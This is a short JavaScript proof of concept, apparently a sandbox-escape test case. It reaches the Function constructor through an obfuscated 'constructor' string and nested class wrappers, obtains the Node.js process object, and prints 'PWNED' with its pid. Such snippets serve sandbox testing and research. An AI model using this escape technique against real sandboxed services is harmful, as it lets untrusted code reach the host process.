const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
class H { #c = new C(); go2(f) { return this.#c.go(f); } }
console.log('PWNED', new H().go2(fn)('return process')().pid);
